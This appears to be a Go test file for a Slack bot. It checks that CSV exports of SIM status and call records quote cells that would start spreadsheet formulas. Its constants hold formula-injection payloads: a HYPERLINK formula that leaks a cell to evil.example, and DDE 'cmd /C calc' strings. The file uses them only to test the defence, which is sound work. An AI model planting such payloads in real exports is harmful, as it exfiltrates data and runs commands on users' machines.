package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/switchboard-bot/switchboard/enco/sandbox"
)

// Formulas that EnCo data could carry into a spreadsheet.
const (
	hostileCostCentre = `=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")`
	hostileAPN        = `@SUM(1+1)*cmd|' /C calc'!A0`
	hostileRelease    = `+=1+cmd|' /C calc'!A0`
)

// attachedCSV waits for the one file attached to the harness's Slack and
// reads it back as CSV.
func (h *harness) attachedCSV(what string) [][]string {
	h.t.Helper()
	h.waitFor(what, func() bool { return len(h.slack.Files()) > 0 })
	files := h.slack.Files()
	if len(files) != 1 {
		h.t.Fatalf("files = %d, want 1", len(files))
	}
	rows, err := csv.NewReader(bytes.NewReader(files[0].Content)).ReadAll()
	if err != nil {
		h.t.Fatalf("%s: %v", files[0].Name, err)
	}
	return rows
}

// noFormula fails for every cell a spreadsheet would run as a formula.
func noFormula(t *testing.T, rows [][]string) {
	t.Helper()
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d, column %d: %q starts a formula", i, j, cell)
			}
		}
	}
}

// column returns the index of the header's column name.
func column(t *testing.T, header []string, name string) int {
	t.Helper()
	for i, h := range header {
		if h == name {
			return i
		}
	}
	t.Fatalf("header %q has no %s", header, name)
	return -1
}

// TestSimStatusFileQuotesFormulasFromEnCo: a cost centre and an APN that
// EnCo answers with formulas reach the attached file as text.
func TestSimStatusFileQuotesFormulasFromEnCo(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	for msisdn, edit := range map[string]func(*sandbox.SIM){
		"32471000002": func(c *sandbox.SIM) { c.CostCenter = hostileCostCentre },
		"32471000003": func(c *sandbox.SIM) { c.APN = hostileAPN },
	} {
		card, ok := h.enco.SIM(msisdn)
		if !ok {
			t.Fatalf("the sandbox has no card %s", msisdn)
		}
		edit(&card)
		h.enco.AddSIM(card)
	}
	var typed []string
	for i := 1; i <= 16; i++ {
		typed = append(typed, fmt.Sprintf("0471 00 00 %02d", i))
	}
	ack, _ := h.command(opsUser, opsChan, "/sim status "+strings.Join(typed, ", "))
	h.waitFor("the status answer", func() bool { return len(h.slack.ResponseURLPosts(ack.EnvelopeID)) > 0 })

	rows := h.attachedCSV("the CSV of statuses")
	noFormula(t, rows)
	cost, apn := column(t, rows[0], "cost_centre"), column(t, rows[0], "apn")
	if len(rows) != 17 || rows[2][cost] != "'"+hostileCostCentre || rows[3][apn] != "'"+hostileAPN {
		t.Errorf("file rows %q, want 16 cards, the cost centre and the APN kept after a quote", rows)
	}
	if rows[1][0] != "'+32471000001" {
		t.Errorf("number cell = %q, want the number after a quote", rows[1][0])
	}
}

// TestCallRecordFileQuotesFormulasFromEnCo: a call's release text that
// EnCo answers with a formula reaches the attached file as text.
func TestCallRecordFileQuotesFormulasFromEnCo(t *testing.T) {
	t.Parallel()
	h := newTelHarness(t)
	now := h.enco.Now().UTC().Truncate(time.Second)
	for i := range 21 {
		h.enco.AddCDR(sandbox.CDR{SessionID: fmt.Sprint(71000001 + i), Origin: "3228160257", Destination: "32468373902",
			RequestTime: now.Add(-time.Duration(i+1) * time.Minute), CallReleaseInfo: hostileRelease})
	}
	ack, _ := h.command(telStaff, telChan, "/call cdr since=1d")
	h.telResponse(ack, "The full list is attached to this channel as `calls-")

	rows := h.attachedCSV("the CSV of calls")
	noFormula(t, rows)
	release := column(t, rows[0], "release_info")
	if len(rows) < 22 || rows[1][release] != "'"+hostileRelease {
		t.Errorf("file rows %q, want the release text kept after a quote", rows)
	}
}
